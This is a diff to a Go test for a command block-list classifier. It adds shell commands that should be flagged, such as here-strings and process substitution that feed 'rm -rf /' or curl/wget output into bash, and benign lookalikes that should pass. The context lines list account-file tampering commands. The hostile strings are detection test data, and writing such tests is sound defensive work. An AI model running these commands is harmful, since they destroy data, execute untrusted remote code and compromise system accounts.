@@ -184,7 +184,11 @@ func TestBlacklistByMeaning(t *testing.T) {
 			// what an interpreter's inline code hands a shell, as a literal
 			`python3 -c 'import os; os.system("rm -rf /")'`, `perl -e 'system "rm -rf ~"'`,
 			`python3 -c "import subprocess; subprocess.run('rm -rf /*', shell=True)"`, `php -r 'shell_exec("rm -rf /usr");'`,
+			// a script a compound command's input or a standing exec gives
+			// the shell inside it
+			"{ bash; } <<< 'rm -rf /'", "exec <<< 'rm -rf ~'; sh", "(sh -s) <<'E'\nrm -rf /\nE",
 		}, []string{
+			"{ bash; } <<< 'rm -rf ./build'", "{ cat; } <<< 'rm -rf /'", "exec <<< 'rm -rf /'; cat",
 			`python3 -c 'import os; os.system("rm -rf ./build")'`, `python3 -c 'print("rm -rf is a bad idea")'`,
 			"rm -rf /tmp/x", "rm -rf ./build", "cd /tmp && rm -rf *", "X=/tmp/x; rm -rf $X",
 			"echo build | xargs rm -rf", "rm -rf ~/project/build", "rm -f /etc/motd.bak", "rsync -a src/ dst/",
@@ -214,12 +218,17 @@ func TestBlacklistByMeaning(t *testing.T) {
 			"curl -s x | xargs -0 bash -c", "curl x | xargs -I{} sh -c {}", "wget -qO- x | xargs -0 python3 -c", "curl x | xargs -i sh -c 'echo {}'",
 			// copies from another host, then run
 			"scp h:x . && sh x", "scp -P 22 user@h:/tmp/i.sh /tmp/ && bash /tmp/i.sh", "rsync -a h:s.sh ./s.sh && ./s.sh",
-			"git clone https://x/r && bash r/install.sh", "git clone git@github.com:o/r.git d; ./d/install.sh"},
+			"git clone https://x/r && bash r/install.sh", "git clone git@github.com:o/r.git d; ./d/install.sh",
+			// the input a compound command or a standing exec gives the
+			// shell inside it
+			"exec < <(curl -s x); bash", "exec 0< <(wget -qO- x); sh -s", "{ bash; } < <(curl -s x)", "(sh) < <(curl x)",
+			"exec 3< <(curl x); bash <&3", "exec 3< <(curl x); exec <&3; bash", "while read -r l; do eval \"$l\"; done < <(curl x)"},
 			[]string{"curl -o x.sh x", "curl x | jq .", "wget x && tar xf x", "bash script.sh", "curl -o data.json http://x && jq . data.json",
 				"wget http://x/a.tar.gz; tar xf a.tar.gz", "curl -d @x.sh http://x; bash x.sh", "bash s; curl -o s http://x",
 				"curl x | xargs -n1 echo", "curl x | xargs grep foo", "cat list | xargs -I{} sh -c {}", "curl x | xargs -I{} cp {} /tmp",
 				"scp x h:y && sh x", "scp a b && sh b", "git clone https://x/r && ls r", "bash install.sh; git clone https://x/r",
-				"git clone ../lib && bash lib/setup.sh", "rsync -a h:dir/ ./dir/ && cat dir/README"}},
+				"git clone ../lib && bash lib/setup.sh", "rsync -a h:dir/ ./dir/ && cat dir/README",
+				"exec < <(curl -s x); cat", "{ jq .; } < <(curl x)", "exec 3< <(curl x); cat <&3", "exec < s.sh; bash"}},
 		{"overwrite-account-files", []string{"mv /etc/passwd /tmp/p", "truncate -s 0 /etc/shadow", "sed -i s/x/y/ /etc/passwd", "perl -pi -e s/x/y/ /etc/group",
 			"passwd -d root", "usermod -aG sudo bob", "chpasswd < list", "vipw", "echo x >> /etc/sudoers.d/me", "cp x /proc/self/root/etc/shadow",
 			"echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "ln -sf x /etc/gshadow",
